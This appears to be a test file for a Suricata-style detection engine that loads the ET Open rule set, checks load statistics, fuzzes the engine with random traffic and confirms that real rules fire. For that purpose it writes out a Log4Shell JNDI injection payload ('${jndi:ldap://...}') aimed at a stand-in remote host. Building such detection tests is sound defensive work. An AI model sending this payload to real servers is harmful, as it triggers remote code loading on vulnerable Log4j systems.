// The full ET Open set (../shared/data/et-open): load report, >= 97% of enabled HTTP/TCP rules load,
// every rule not loaded is counted under a reason, and the engine matches a real ET rule.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { execFileSync } from 'child_process';
import { formatReport, loadRules } from '../src/detect/suricata';
import { tx, flow } from './suricata-helpers';

const TARBALL = path.resolve(__dirname, '../../shared/data/et-open/emerging-all.rules.tar.gz');

test('ET Open loads: report, >= 97% of enabled HTTP/TCP rules, reasons for the rest', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'et-load-'));
  try {
    execFileSync('tar', ['xzf', TARBALL, '-C', dir]);
    process.env.PROCTAP_HS_CACHE = path.join(dir, 'hs-cache'); // nothing left behind in /tmp
    const file = path.join(dir, 'emerging-all.rules');
    const { engine, report } = loadRules([file]);
    console.log(formatReport(report, 1));
    assert.equal(report.total, 44198);
    assert.equal(report.disabledInFile, 12202);
    assert.equal(report.loaded + report.notLoaded + report.disabledInFile, report.total);
    const ratio = report.httpTcpLoaded / report.httpTcpEnabled;
    console.log(`et-open: ${report.httpTcpLoaded} of ${report.httpTcpEnabled} enabled HTTP/TCP rules loaded (${(100 * ratio).toFixed(2)}%)`);
    assert.ok(ratio >= 0.97, `only ${(100 * ratio).toFixed(2)}% loaded`);
    const reasons = new Map(report.reasons.map((r) => [r.reason, r.count]));
    assert.ok((reasons.get('pcre that RE2 cannot compile') ?? 0) > 300, 'look-around/back-reference pcres are reported');
    assert.ok(reasons.get('protocol dns not supported'));
    for (const f of report.failures) {
      assert.ok(f.reason && f.line > 0 && f.file === file, JSON.stringify(f));
    }
    // Real ET rules fire on the traffic they describe: the Log4j JNDI rules are `alert http` rules on
    // the raw stream of HTTP flows, so they run on the request bytes of a flow known to be HTTP.
    const f = flow('203.0.113.9:40000', '192.168.1.20:80');
    const raw = 'GET /?x=${jndi:ldap://198.51.100.1:1389/a} HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: ${jndi:ldap://198.51.100.1/a}\r\n\r\n';
    const streamHits = engine.matchStream({ flow: f, dir: 'to_server', offset: 0, data: Buffer.from(raw), gapBefore: false, timeMs: 1 }, { appProto: 'http' });
    assert.ok(streamHits.some((m) => m.id === 2034647), streamHits.map((m) => `${m.id} ${m.msg}`).join('\n'));
    const hit = streamHits.find((m) => m.id === 2034647)!;
    assert.equal(hit.matched.toLowerCase(), '${jndi:ldap://');
    assert.equal(hit.severity, 1);
    // An HTTP-buffer rule (sid 2018202: http.uri "/log4jAdmin.jsp", $EXTERNAL_NET -> $HTTP_SERVERS).
    const t = tx({ uri: '/app/log4jAdmin.jsp', reqHeaders: [['Host', 'victim.example']], flow: f });
    const txHits = engine.matchRequest(t);
    assert.ok(txHits.some((m) => m.id === 2018202), txHits.map((m) => `${m.id} ${m.msg}`).join('\n'));
    assert.equal(txHits.find((m) => m.id === 2018202)!.target, 'http.uri');
    // The same request from inside HOME_NET to outside does not match the header.
    const t2 = tx({ uri: '/app/log4jAdmin.jsp', flow: flow('192.168.1.20:40000', '203.0.113.9:80') });
    assert.ok(!engine.matchRequest(t2).some((m) => m.id === 2018202));
    // Malformed and random traffic never throws, and no rule's verification fails with an error.
    let seed = 7;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32);
    const bytes = (n: number) => Buffer.from(Array.from({ length: n }, () => (rnd() < 0.7 ? 32 + Math.floor(rnd() * 95) : Math.floor(rnd() * 256))));
    for (let i = 0; i < 300; i++) {
      const ft = flow(`10.0.${i % 250}.1:${1024 + i}`, `198.51.100.${i % 250}:80`, `fuzz${i}`);
      const t = tx({
        method: ['GET', 'POST', 'PUT', '\x00'][i % 4],
        uri: '/' + bytes(Math.floor(rnd() * 200)).toString('latin1'),
        reqHeaders: [['Host', bytes(12).toString('latin1')], ['User-Agent', bytes(40).toString('latin1')], ['Cookie', bytes(30).toString('latin1')]],
        reqBody: bytes(Math.floor(rnd() * 3000)),
        status: [200, 404, 500, 0][i % 4],
        respHeaders: [['Content-Type', 'text/html'], ['Server', bytes(10).toString('latin1')]],
        respBody: bytes(Math.floor(rnd() * 20000)),
        flow: ft,
      });
      engine.matchRequest(t, { appProto: 'http' });
      engine.matchResponse(t, { appProto: 'http' });
      engine.matchStream({ flow: ft, dir: 'to_server', offset: 0, data: bytes(Math.floor(rnd() * 4000)), gapBefore: false, timeMs: i }, { appProto: i % 2 ? 'http' : undefined });
      engine.matchStream({ flow: ft, dir: 'to_client', offset: 0, data: bytes(Math.floor(rnd() * 4000)), gapBefore: i % 3 === 0, timeMs: i });
      engine.endFlow(ft);
    }
    const c = engine.counters();
    assert.ok(c.candidates > 0);
    assert.equal(c.errors, 0, engine.lastError);
    // Benign traffic raises nothing of severity 1.
    const benign = tx({ uri: '/index.html', reqHeaders: [['Host', 'www.example.com'], ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0'], ['Accept', 'text/html']], status: 200, respHeaders: [['Server', 'nginx'], ['Content-Type', 'text/html']], respBody: '<html><body>hello</body></html>' });
    const bad = [...engine.matchRequest(benign), ...engine.matchResponse(benign)].filter((m) => m.severity === 1);
    assert.deepEqual(bad.map((m) => m.msg), []);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});
